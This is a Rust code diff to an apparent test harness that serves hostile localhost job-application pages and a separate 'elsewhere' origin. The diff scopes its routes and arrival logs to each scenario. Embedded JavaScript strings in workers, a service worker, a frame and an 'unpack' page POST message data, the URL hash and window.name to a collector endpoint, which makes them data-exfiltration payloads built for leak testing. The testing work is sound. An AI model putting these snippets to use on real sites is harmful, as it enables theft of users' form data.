@@ -22,7 +22,6 @@ pub use scenarios::{Provocation, SCENARIOS, Scenario};
 #[derive(Debug)]
 pub struct Hostile {
     employer: SocketAddr,
-    elsewhere: SocketAddr,
     log: Log,
     _server: Server,
 }
@@ -38,7 +37,7 @@ impl Hostile {
         let elsewhere = server.serve(Road::Elsewhere, &log, Arc::new(collect)).await?;
         let answer = move |request: &Request<'_>| answer(request, elsewhere, datagrams);
         let employer = server.serve(Road::Employer, &log, Arc::new(answer)).await?;
-        Ok(Self { employer, elsewhere, log, _server: server })
+        Ok(Self { employer, log, _server: server })
     }
 
     /// The address of posting number `n` of a scenario.
@@ -53,10 +52,19 @@ impl Hostile {
         &self.log
     }
 
-    /// The address of the other origin.
+    /// Arrivals caused by the pages of a scenario.
     #[must_use]
-    pub fn elsewhere(&self) -> SocketAddr {
-        self.elsewhere
+    pub fn caused_by(&self, scenario: &Scenario) -> Vec<Arrival> {
+        let address = format!("/{}/", scenario.id);
+        let arrivals = self.log.arrivals().into_iter();
+        arrivals
+            .filter(|arrival| match arrival.road {
+                Road::Employer | Road::Elsewhere | Road::WebSocket => arrival.target.starts_with(&address),
+                // Only one scenario takes each of these roads; what they carry has no address.
+                Road::Bytes => scenario.id == "host-name",
+                Road::Datagram => scenario.id == "peer-connection",
+            })
+            .collect()
     }
 
     /// Posts to where an application of posting `n` belongs, whenever they came.
@@ -68,12 +76,12 @@ impl Hostile {
     }
 }
 
-const WORKER: &str = "onmessage = e => fetch('/collect', { method: 'POST', body: e.data });";
+const WORKER: &str = "onmessage = e => fetch('collect', { method: 'POST', body: e.data });";
 const SHARED_WORKER: &str =
-    "onconnect = c => { c.ports[0].onmessage = e => fetch('/collect', { method: 'POST', body: e.data }); };";
+    "onconnect = c => { c.ports[0].onmessage = e => fetch('collect', { method: 'POST', body: e.data }); };";
 const SERVICE_WORKER: &str = "addEventListener('activate', e => e.waitUntil(clients.claim()));
-addEventListener('message', e => e.waitUntil(fetch('/collect', { method: 'POST', body: e.data })));";
-const FRAME: &str = "<!doctype html><title>Chat</title><script>onmessage = e => fetch('/collect', { method: 'POST', body: e.data });</script>";
+addEventListener('message', e => e.waitUntil(fetch('collect', { method: 'POST', body: e.data })));";
+const FRAME: &str = "<!doctype html><title>Chat</title><script>onmessage = e => fetch('collect', { method: 'POST', body: e.data });</script>";
 const UNPACK: &str = "<!doctype html><title>Welcome</title><h1>Welcome</h1>
 <script>fetch('draft', { method: 'POST', body: decodeURIComponent(location.hash) + window.name });</script>";
 const CONFIRMATION: &str = "<!doctype html><title>Application received</title><h1>Application received</h1>
@@ -82,12 +90,6 @@ const CONFIRMATION: &str = "<!doctype html><title>Application received</title><h
 /// The employer's answers.
 fn answer(request: &Request<'_>, elsewhere: SocketAddr, datagrams: SocketAddr) -> Reply {
     let script = |text: &str| Reply::new(200, "text/javascript", text);
-    match request.path() {
-        "/worker.js" => return script(WORKER),
-        "/shared-worker.js" => return script(SHARED_WORKER),
-        "/service-worker.js" => return script(SERVICE_WORKER),
-        _ => {}
-    }
     let parts: Vec<&str> = request.path().trim_matches('/').split('/').collect();
     let scenario = SCENARIOS.iter().find(|s| parts.first() == Some(&s.id));
     match (request.method, scenario, parts.get(1..).unwrap_or_default()) {
@@ -96,6 +98,9 @@ fn answer(request: &Request<'_>, elsewhere: SocketAddr, datagrams: SocketAddr) -
             Reply::redirect(303, format!("/{}/jobs/{n}/confirmation", scenario.id))
         }
         ("GET", Some(_), ["jobs", _, "confirmation"]) => Reply::html(CONFIRMATION),
+        ("GET", Some(_), [.., "worker.js"]) => script(WORKER),
+        ("GET", Some(_), [.., "shared-worker.js"]) => script(SHARED_WORKER),
+        ("GET", Some(_), [.., "service-worker.js"]) => script(SERVICE_WORKER),
         ("GET", Some(_), [.., "unpack"]) => Reply::html(UNPACK),
         ("GET", Some(_), [.., "terms.txt" | "pixel.gif"]) => Reply::new(200, "text/plain", "."),
         ("GET", Some(_), [.., "step-2" | "speculated"]) => Reply::html("<!doctype html><title>Step 2</title>"),
@@ -106,7 +111,7 @@ fn answer(request: &Request<'_>, elsewhere: SocketAddr, datagrams: SocketAddr) -
 fn page(scenario: &Scenario, elsewhere: SocketAddr, datagrams: SocketAddr) -> Reply {
     let html = include_str!("hostile/form.html")
         .replace("{{extra}}", scenario.extra)
-        .replace("{{elsewhere}}", &format!("http://localhost:{}", elsewhere.port()))
+        .replace("{{elsewhere}}", &format!("http://localhost:{}/{}", elsewhere.port(), scenario.id))
         .replace("{{datagrams}}", &datagrams.to_string())
         .replace("{{script}}", scenario.script);
     match scenario.id {
@@ -117,11 +122,11 @@ fn page(scenario: &Scenario, elsewhere: SocketAddr, datagrams: SocketAddr) -> Re
 
 /// The other origin takes everything.
 fn collect(request: &Request<'_>) -> Reply {
-    let reply = match request.path() {
-        "/socket" => return Reply::web_socket(),
-        "/frame.html" => Reply::html(FRAME),
-        "/events" => Reply::new(200, "text/event-stream", ": nothing\n\n"),
-        "/lib.js" => Reply::new(200, "text/javascript", ""),
+    let reply = match request.path().rsplit('/').next().unwrap_or_default() {
+        "socket" => return Reply::web_socket(),
+        "frame.html" => Reply::html(FRAME),
+        "events" => Reply::new(200, "text/event-stream", ": nothing\n\n"),
+        "lib.js" => Reply::new(200, "text/javascript", ""),
         _ => Reply::new(200, "text/plain", ""),
     };
     reply.header("Access-Control-Allow-Origin", "*").header("Access-Control-Allow-Headers", "*")
